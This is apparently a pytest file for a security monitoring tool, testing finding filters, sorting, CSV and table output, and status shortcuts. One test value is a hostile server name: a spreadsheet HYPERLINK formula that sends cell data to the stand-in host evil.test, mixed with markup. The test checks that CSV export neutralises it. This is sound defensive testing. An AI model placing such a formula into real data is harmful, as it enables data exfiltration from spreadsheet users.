"""`mcpeeker finding list` owner/detection filters, --sort, CSV and JSON, the table at 80 columns, and the
`finding ack|resolve|reopen|suppress` shortcuts, on the real node over findings the real pipeline made."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from mcpeeker import catalogue
from mcpeeker.cases import suppressions as sup
from mcpeeker.cases.queries import SORT_FIELDS, FindingFilter, QueryError, parse_sort, search_findings
from mcpeeker.cli import _finding_output as finding_output
from mcpeeker.client import make_client
from mcpeeker.correlate.instances import finding_id
from mcpeeker.registry.store import Registry
from mcpeeker.sensors.suricata import run_suricata
from mcpeeker.settings import Settings

from cases.world import (
    ADMIN,
    ATTACK_IP,
    ATTACK_PCAP,
    ATTACK_PORT,
    B_IP,
    B_PORT,
    HOST_A,
    HOST_B,
    RULES,
    agent_report,
    cli,
    correlate,
    finding,
    ingest,
    ingest_report,
    key_of,
)

KEY_A, KEY_B = key_of(HOST_A, ATTACK_PORT), key_of(HOST_B, B_PORT)
FID_A, FID_B = finding_id(KEY_A), finding_id(KEY_B)
# A server name as an attacker would pick it: a spreadsheet formula, markup and a CSV delimiter.
HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Click"),<b>[red]x[/red]'


def _hostile_report() -> dict[str, Any]:
    """HOST_B's agent report: an exposed listener (MCP-POS-003) and a configured server with a hostile name."""
    report = agent_report(HOST_B, B_IP, B_PORT, risks=("exposed_listener",))
    report["evidence"].append(
        {
            "type": "file",
            "score": 9,
            "reason": "MCP server configured in cursor",
            "file": {"path": "~/src/app/.cursor/mcp.json", "size": 301},
            "config": {
                "client": "cursor",
                "scope": "project",
                "server_name": HOSTILE,
                "transport": "streamable_http",
                "url": f"http://{B_IP}:{B_PORT}/mcp",
                "fingerprint": "0a1b2c3d4e5f6071",
                "change": "added",
            },
        }
    )
    return report


@pytest.fixture(scope="module")
def attack_eve(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return run_suricata(ATTACK_PCAP, RULES, tmp_path_factory.mktemp("suricata"))


@pytest.fixture
def world(os_settings: Settings, attack_eve: Path, tmp_path: Path) -> Settings:
    """A: attacked (command injection), unregistered. B: exposed listener, approved for its owner alice."""
    ingest_report(os_settings, tmp_path, agent_report(HOST_A, ATTACK_IP, ATTACK_PORT), "a")
    ingest_report(os_settings, tmp_path, _hostile_report(), "b")
    ingest(os_settings, "suricata", attack_eve, tmp_path)
    registry = Registry(os_settings, make_client(os_settings), ADMIN)
    entry = registry.add({"owner": "alice", "purpose": "lab notes", "host": {"id": HOST_B}, "server": {"port": B_PORT}})
    registry.apply(entry["entry_id"], "approve")
    correlate(os_settings)
    return os_settings


def _ids(settings: Settings, **where: Any) -> set[str]:
    found = search_findings(settings, make_client(settings), FindingFilter(**where))
    return {f["finding"]["id"] for f in found}


def _listed(settings: Settings, *args: str) -> list[str]:
    result = cli(settings, "finding", "list", "--format", "json", *args)
    assert result.returncode == 0, result.stderr
    return [f["finding"]["id"] for f in json.loads(result.stdout)]


def test_owner_and_detection_filters(world: Settings) -> None:
    settings = world
    a, b = finding(settings, KEY_A), finding(settings, KEY_B)
    assert b["registry"]["owner"] == "alice" and "owner" not in a.get("registry", {})
    assert _ids(settings, owner="alice") == {FID_B}
    assert _ids(settings, owner="bob") == set()
    # Every catalogue id selects exactly the findings that carry it (trust penalty or attack type).
    hits: dict[str, set[str]] = {}
    for entry in catalogue.entries():
        det = str(entry["id"])
        expected = {f["finding"]["id"] for f in (a, b) if det in sup.detections_of(f)}
        assert _ids(settings, detection=det) == expected, det
        hits[det] = expected
    assert hits["MCP-ATK-004"] == {FID_A} and hits["MCP-POS-003"] == {FID_B}
    assert _ids(settings, detection="MCP-POS-003", owner="alice") == {FID_B}
    assert _ids(settings, detection="MCP-ATK-004", owner="alice") == set()
    with pytest.raises(QueryError, match="MCP-NOPE-001.*not a catalogue id"):
        _ids(settings, detection="MCP-NOPE-001")
    # The same through the command.
    assert _listed(settings, "--owner", "alice") == [FID_B]
    assert _listed(settings, "--detection", "MCP-ATK-004") == [FID_A]
    bad = cli(settings, "finding", "list", "--detection", "MCP-NOPE-001")
    assert bad.returncode == 2 and "not a catalogue id" in bad.stderr


def _value(doc: dict[str, Any], field: str) -> Any:
    for part in field.split("."):
        doc = doc.get(part) if isinstance(doc, dict) else None  # type: ignore[assignment]
    return doc


def test_every_sort_field_both_ways(world: Settings) -> None:
    settings = world
    docs = {f["finding"]["id"]: f for f in search_findings(settings, make_client(settings), FindingFilter())}
    assert {FID_A, FID_B} <= set(docs)
    compared = 0
    for name, (field, _natural) in SORT_FIELDS.items():
        values = {fid: _value(doc, field) for fid, doc in docs.items()}
        if None in values.values() or len(set(map(str, values.values()))) < 2:
            continue  # both the same (or absent): the order says nothing
        for direction in ("asc", "desc"):
            expected = sorted(docs, key=lambda fid: values[fid], reverse=direction == "desc")
            assert _listed(settings, "--sort", f"{name}:{direction}") == expected, (name, direction, values)
        compared += 1
    assert compared >= 3, compared  # at least score, id and last seen tell them all apart
    assert _listed(settings, "--sort", "score") == _listed(settings, "--sort", "score:desc")
    assert {d["finding"]["status"] for d in docs.values()} == {"open"}  # a tie: the second key decides
    assert _listed(settings, "--sort", "status", "--sort", "id:desc") == sorted(docs, reverse=True)
    with pytest.raises(QueryError, match="sort by one of"):
        parse_sort("colour")
    with pytest.raises(QueryError, match="asc or desc"):
        parse_sort("score:up")
    bad = cli(settings, "finding", "list", "--sort", "score:sideways")
    assert bad.returncode == 2 and "asc or desc" in bad.stderr


def test_csv_keeps_a_hostile_name_as_data(world: Settings) -> None:
    settings = world
    findings = search_findings(settings, make_client(settings), FindingFilter())
    # The agent's configured server: the pipeline keeps its name as it came (mcp.config.server_name).
    named = [
        f["finding"]["id"] for f in findings if HOSTILE in f.get("mcp", {}).get("config", {}).get("server_name", [])
    ]
    assert len(named) == 1, [f.get("mcp") for f in findings]
    result = cli(settings, "finding", "list", "--format", "csv", "--sort", "id")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["finding_id", "classification", "severity", "status"]
    assert [r[0] for r in body] == sorted(f["finding"]["id"] for f in findings)
    by_id = {r[0]: dict(zip(header, r)) for r in body}
    # The formula is quoted so a spreadsheet shows it as text; the rest of the text is unchanged.
    assert by_id[named[0]]["server_name"] == "'" + HOSTILE
    assert by_id[FID_B]["owner"] == "alice" and "command_injection" in by_id[FID_A]["attack_types"].split(";")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in body for cell in row)
    assert finding_output.csv_cell("-2+3") == "'-2+3" and finding_output.csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert finding_output.csv_cell(-3) == -3 and finding_output.csv_cell("plain") == "plain"


def test_table_at_80_columns(world: Settings) -> None:
    settings = world
    findings = search_findings(settings, make_client(settings), FindingFilter())
    console = Console(width=80, record=True, color_system=None)
    finding_output.print_table(console, findings)
    text = console.export_text()
    lines = text.splitlines()
    assert max(len(line) for line in lines) <= 80
    headers = [c.header for c, _w in finding_output.choose_columns(findings, 80)]
    assert headers[:4] == ["id", "class", "severity", "status"]
    assert "instance" not in headers  # the long instance key gives way at 80 columns
    header_line = next(line for line in lines if "severity" in line)
    cells = [c.strip() for c in header_line.strip("│┃ ").replace("┃", "│").split("│")]
    assert cells == headers, "no header is cut"
    for f in findings:
        assert f["finding"]["id"] in text, "ids are never truncated"
        assert f["classification"] in text and f["severity"] in text
    # The hostile name is shown as text (markup characters and all, possibly shortened), never interpreted.
    assert "[red]" in text or "server" not in headers
    wide = Console(width=80, record=True, color_system=None)
    finding_output.print_table(wide, findings, wide=True)
    wide_text = wide.export_text()
    assert KEY_A in wide_text and KEY_B in wide_text and HOSTILE in wide_text
    # And the command: COLUMNS=80 as a terminal would set it.
    result = cli(settings, "finding", "list", columns=80)
    assert result.returncode == 0, result.stderr
    assert max(len(line) for line in result.stdout.splitlines()) <= 80
    assert FID_A in result.stdout and FID_B in result.stdout


def test_shortcuts_move_the_status_and_write_timeline_and_audit(world: Settings) -> None:
    settings = world
    client = make_client(settings)

    def audit_actions() -> list[tuple[str, str]]:
        client.indices.refresh(index=settings.index("mcp-audit"))
        hits = client.search(index=settings.index("mcp-audit"), body={"size": 100, "sort": [{"seq": "asc"}]})["hits"][
            "hits"
        ]
        return [(h["_source"]["action"], h["_source"]["object"]["id"]) for h in hits]

    for action, status, reason in (
        ("ack", "acknowledged", "looking at the host"),
        ("resolve", "resolved", "server removed"),
        ("reopen", "open", "it came back"),
    ):
        before = len(audit_actions())
        moved = cli(settings, "finding", action, FID_A, "--reason", reason, identity="analyst")
        assert moved.returncode == 0, moved.stderr
        assert f"-> {status} by analyst ({reason})" in moved.stdout
        assert finding(settings, KEY_A)["finding"]["status"] == status
        assert audit_actions()[before:] == [("finding.status", FID_A)]
        shown = cli(settings, "finding", "show", FID_A, "--json")
        rows = [r for r in json.loads(shown.stdout)["timeline"] if r["kind"] == "status"]
        assert rows[-1]["detail"].endswith(f"-> {status}: {reason}") and rows[-1]["source"] == "analyst"

    before = len(audit_actions())
    muted = cli(settings, "finding", "suppress", FID_B, "--reason", "lab box", "--expires", "7d", identity="analyst")
    assert muted.returncode == 0, muted.stderr
    rule_id = muted.stdout.split()[1]
    assert "open -> accepted_risk by analyst" in muted.stdout
    assert audit_actions()[before:] == [("suppression.add", rule_id), ("finding.status", FID_B)]
    rule = sup.get(settings, client, rule_id)
    assert rule.match.instance == KEY_B and rule.source_finding == FID_B and rule.owner == "analyst"
    correlate(settings)
    head = finding(settings, KEY_B)["finding"]
    assert head["status"] == "accepted_risk" and head["suppressed"] is True and rule_id in head["suppression_ids"]
    shown = json.loads(cli(settings, "finding", "show", FID_B, "--json").stdout)
    assert any(r["kind"] == "status" and rule_id in r["detail"] for r in shown["timeline"])
    # A developer may do none of it; nothing changes.
    for args in (("ack", FID_B, "--reason", "x"), ("suppress", FID_A, "--reason", "x", "--expires", "1d")):
        refused = cli(settings, "finding", *args, identity="developer")
        assert refused.returncode == 2 and "may not" in refused.stderr
    assert finding(settings, KEY_A)["finding"]["status"] == "open"
    wrong = cli(settings, "finding", "resolve", "nope", "--reason", "x", identity="analyst")
    assert wrong.returncode == 2 and "no finding 'nope'" in wrong.stderr
